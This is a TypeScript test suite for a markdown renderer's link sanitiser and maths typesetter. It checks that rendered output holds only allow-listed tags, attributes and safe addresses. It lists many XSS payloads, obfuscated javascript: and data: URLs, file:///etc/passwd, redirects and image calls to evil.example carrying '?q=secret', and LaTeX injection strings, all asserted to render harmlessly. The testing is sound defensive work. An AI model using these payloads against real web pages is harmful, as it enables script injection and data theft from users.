/** Whatever an answer says, only known elements, attributes and addresses come of it, and nothing loads by itself. */
import fc from 'fast-check';
import { renderToString } from 'preact-render-to-string';
import { expect, test } from 'vitest';
import { safeLink } from '../../../src/page/markdown/safe-link.ts';
import { typeset } from '../../../src/page/markdown/typeset.ts';
import { rendered } from '../../support/page/markdown.ts';
import { documents, noise } from '../../support/page/markdown-samples.ts';

/** Each element with the attributes it may have. */
const ALLOWED: Record<string, readonly string[]> = {
  a: ['class', 'href', 'title', 'target', 'rel'],
  button: ['type', 'class', 'aria-live', 'aria-pressed'],
  div: ['class', 'tabindex'],
  pre: ['tabindex', 'dir'],
  ol: ['start'],
  p: ['class'],
  blockquote: ['class'],
  em: ['class'],
  span: ['class', 'role', 'aria-label'],
  li: ['class'],
  th: ['class', 'scope'],
  td: ['class'],
  ...Object.fromEntries(['h3', 'h4', 'h5', 'h6'].map((name) => [name, ['class']])),
  ...Object.fromEntries(
    'br hr ul strong del sub sup kbd code table thead tbody tr'.split(' ').map((name) => [name, []]),
  ),
};

const TAG = /<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"<]*")?)*)\s*\/?>/g;

/** What is not allowed in serialised nodes: an element, an attribute, an address, or a `<` that is no tag. */
function offences(html: string): string[] {
  const found: string[] = [];
  for (const [, closing, name = '', attributes = ''] of html.matchAll(TAG)) {
    const allowed = ALLOWED[name];
    if (!allowed) found.push(`<${name}>`);
    if (closing) continue;
    for (const [, attribute = '', value = ''] of attributes.matchAll(/([a-z-]+)(?:="([^"]*)")?/g)) {
      if (!allowed?.includes(attribute)) found.push(`${name}[${attribute}]`);
      if (attribute === 'href' && !/^(?:https?:\/\/[^/]|mailto:|tel:|\/(?![/\\]))/.test(value))
        found.push(value);
    }
    if (name === 'a' && !/ target="_blank" rel="noopener noreferrer nofollow"/.test(attributes)) {
      found.push('a link that could reach back');
    }
  }
  if (html.replace(TAG, '').includes('<')) found.push('a bare <');
  return found;
}

test('the check itself finds what it looks for', () => {
  for (const html of [
    '<img src="x">',
    '<p onclick="x">a</p>',
    '<a href="javascript:x" target="_blank" rel="noopener noreferrer nofollow">a</a>',
    '<a href="//evil.example" target="_blank" rel="noopener noreferrer nofollow">a</a>',
    '<a href="https://a.b/">a</a>',
    '<p><</p>',
  ]) {
    expect(offences(html)).not.toEqual([]);
  }
});

const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java&#9;script:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3A;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61vascript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  '\u200bjavascript:alert(1)',
  'javascript://example.com/%0aalert(1)',
  'javascript\\:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://example.com/x',
  'filesystem:https://example.com/x',
  'view-source:https://example.com',
  'ftp://example.com/x',
  'ws://example.com',
  'about:blank',
  'intent://scan/#Intent;scheme=zxing;end',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example/x',
  '/\t/evil.example/x',
  '/&Tab;/evil.example',
  '/.//evil.example/x',
  '/a/..//evil.example/x',
  '/%2e//evil.example/x',
  'https:',
  'https://',
  'http://[::1',
  '#top',
  'page.html',
  '../up',
  '?q=1',
  '',
];

test.each(ADDRESSES)('no link comes of %j', (address) => {
  expect(safeLink(address)).toBeUndefined();
  for (const text of [
    `[a](${address})`,
    `[a](<${address}>)`,
    `<${address}>`,
    `![a](${address})`,
    `[a][r]\n\n[r]: ${address}`,
    `[a][r]\n\n[r]: <${address}>`,
    `[![a](${address})](${address})`,
  ]) {
    const html = rendered(text);
    expect(html).not.toContain('<a ');
    expect(offences(html)).toEqual([]);
  }
});

test.each([
  ['https://example.com', 'https://example.com/', 'example.com'],
  ['HTTP://EXAMPLE.com:8080/a b', undefined, undefined],
  ['https://例子.com/路', 'https://xn--fsqu00a.com/%E8%B7%AF', 'xn--fsqu00a.com'],
  ['https://a.b/?x=1&amp;y=2', 'https://a.b/?x=1&y=2', 'a.b'],
  ['https:\\\\a.b\\c', 'https://a.b/c', 'a.b'],
  ['mailto:a@b.c?subject=x', 'mailto:a@b.c?subject=x', ''],
  ['tel:+86-10-1234', 'tel:+86-10-1234', ''],
  ['/docs/api.md?x=1#chat', '/docs/api.md?x=1#chat', ''],
  ['/docs', '/docs', ''],
  ['/docs/../secret', undefined, ''],
  ['/docs/%2e%2e/v1/models', undefined, ''],
  ['/docs/..%2Fv1/models', undefined, ''],
  ['/docs\\..\\v1', undefined, ''],
  ['/docsx', undefined, ''],
  ['/v1/models', undefined, ''],
  ['/', undefined, ''],
  ['https://own.example:8000/v1/models', undefined, ''],
  ['HTTP://OWN.example:8000/session', undefined, ''],
  ['https://own.example:8000\\v1', undefined, ''],
  ['https://own.example:8000/docs/en/api', 'https://own.example:8000/docs/en/api', 'own.example:8000'],
  ['https://own.example/v1/models', 'https://own.example/v1/models', 'own.example'],
])('%j opens %j', (address, href, host) => {
  expect(safeLink(address, 'own.example:8000')).toEqual(href === undefined ? undefined : { href, host });
});

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<style>@import "https://evil.example"</style>',
  '<link rel=stylesheet href=https://evil.example>',
  '<base href=https://evil.example/>',
  '<form action=https://evil.example><input name=a>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<br onclick=alert(1)>',
  '<br/onload=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '`<img src=x onerror=alert(1)>`',
  '```html"><img src=x onerror=alert(1)>\n<img src=x onerror=alert(1)>\n```',
  '    <img src=x onerror=alert(1)>',
  '# <img src=x onerror=alert(1)>',
  '- [ ] <img src=x onerror=alert(1)>',
  '|<img src=x onerror=alert(1)>|\n|-|\n|<svg onload=alert(1)>|',
  '[x](https://a.b "\\"><img src=x onerror=alert(1)>")',
  "[x](https://a.b/'onmouseover='alert(1)')",
  '[x](https://a.b/"onmouseover="alert(1))',
  '[<img src=x onerror=alert(1)>](https://a.b)',
  '![x"onerror="alert(1)](https://a.b/x.png"onerror="alert(1))',
  '![<img src=x onerror=alert(1)>](https://evil.example/?q=secret)',
  '![x](https://evil.example/?q=secret){onerror=alert(1)}',
  '[x]: https://a.b "\'><script>alert(1)</script>"\n\n[x]',
  '\\(\\href{javascript:alert(1)}{x}\\) $$<img src=x onerror=alert(1)>$$',
  '<https://a.b/"onclick="alert(1)>',
  'https://a.b/"onclick="alert(1)',
  '__proto__ [__proto__] [constructor][toString]',
];

test.each(PAYLOADS)('%s does nothing', (payload) => {
  for (const text of [
    payload,
    `> ${payload}`,
    `1. ${payload}`,
    `**${payload}**`,
    `a ${payload} b\n\n${payload}`,
  ]) {
    expect(offences(rendered(text))).toEqual([]);
  }
});

test('nothing but known nodes comes of any text', () => {
  const fragments = fc.array(fc.constantFrom(...PAYLOADS, ...ADDRESSES.map((a) => `[x](${a})`)), {
    maxLength: 4,
  });
  const texts = fc.oneof(
    documents,
    noise,
    fc.tuple(fragments, noise).map(([parts, rest]) => parts.join(rest)),
  );
  fc.assert(
    fc.property(texts, (text) => {
      expect(offences(rendered(text))).toEqual([]);
    }),
    { numRuns: 1000 },
  );
});

test.each([
  '\\href{javascript:alert(1)}{x}',
  '\\url{javascript:alert(1)}',
  '\\includegraphics{https://evil.example/x.png}',
  '\\htmlStyle{background:url(https://evil.example)}{x}',
  '\\htmlId{a}{x}',
  '\\class{a}{x}',
  '\\def\\a{\\a\\a}\\a',
  '\\frac{1}{',
])('maths refuses %s', (tex) => {
  expect(typeset(tex, false)).toBeUndefined();
});

test('maths is made of MathML alone', () => {
  const html = [
    '\\frac{1}{2} + \\sqrt{x}',
    '\\text{<img src=x onerror=alert(1)>}',
    '\\color{red} x \\tag{1}',
    '\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}',
    '\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}',
    '\\boxed{x} \\cancel{y} \\vec{v} \\label{a}',
  ]
    .map((tex) => typeset(tex, true))
    .map((node) => (node ? renderToString(node) : 'nothing'))
    .join('');
  expect(html).not.toContain('nothing');
  expect(html).toContain('<mfrac><mn>1</mn><mn>2</mn></mfrac>');
  for (const [, , name, attributes] of html.matchAll(TAG)) {
    expect(name).toMatch(/^(?:m[a-z]+|semantics|annotation)$/);
    expect(attributes).not.toMatch(/\s(?:href|src|id|on\w+)=|url\(/);
  }
  expect(html.replace(TAG, '')).not.toContain('<');
});
